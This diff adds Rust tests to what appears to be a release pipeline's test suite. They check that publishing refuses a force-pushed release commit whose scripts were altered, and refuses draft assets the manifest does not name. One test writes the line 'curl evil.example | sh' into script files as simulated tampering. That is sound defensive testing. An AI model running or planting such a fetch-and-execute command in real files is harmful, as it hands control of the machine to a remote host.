@@ -44,6 +44,56 @@ fn what_a_tag_called_like_the_default_branch_has_built_is_not_published() {
     world.step("publish", "1.2.3").succeeds();
 }
 
+/// Whoever may push can put another commit of the same parent in place of the draft's.
+#[test]
+fn a_release_commit_that_changes_more_than_the_manifest_is_not_published() {
+    for file in ["action/program.sh", "action.yml", "release/set-version"] {
+        let world = World::new();
+        for script in ["prepare", "draft", "attest"] {
+            world.step(script, "1.2.3").succeeds();
+        }
+        world.git(&["fetch", "-q", "origin", "release-1.2.3"]);
+        world.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
+        fs::write(world.clone().join(file), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
+        world.git(&["add", "--all"]);
+        world.git(&[
+            "-c",
+            "user.name=eve",
+            "-c",
+            "user.email=eve@example.com",
+            "commit",
+            "-q",
+            "--amend",
+            "--no-edit",
+        ]);
+        world.git(&["push", "-q", "--force", "origin", "HEAD:refs/heads/release-1.2.3"]);
+        world.git(&["checkout", "-q", "main"]);
+        world
+            .step("publish", "1.2.3")
+            .fails_with("changes more than `action/manifest.txt`");
+        assert!(!world.state().join("published").exists(), "{file}");
+    }
+}
+
+#[test]
+fn an_asset_that_no_build_of_the_release_has_made_is_not_published() {
+    for name in [
+        "do-deploy-1.2.3-x86_64-pc-windows-msvc.exe",
+        "install.sh",
+        "do-deploy-1.2.2-x86_64-unknown-linux-musl",
+    ] {
+        let world = World::new();
+        for script in ["prepare", "draft", "attest"] {
+            world.step(script, "1.2.3").succeeds();
+        }
+        fs::write(world.state().join("assets").join(name), "evil").unwrap();
+        world
+            .step("publish", "1.2.3")
+            .fails_with(&format!("the draft has `{name}`, which the manifest does not name"));
+        assert!(!world.state().join("published").exists(), "{name}");
+    }
+}
+
 #[test]
 fn a_release_is_started_by_the_whole_ref_of_the_default_branch() {
     let workflow = include_str!("../../../.github/workflows/release.yml");
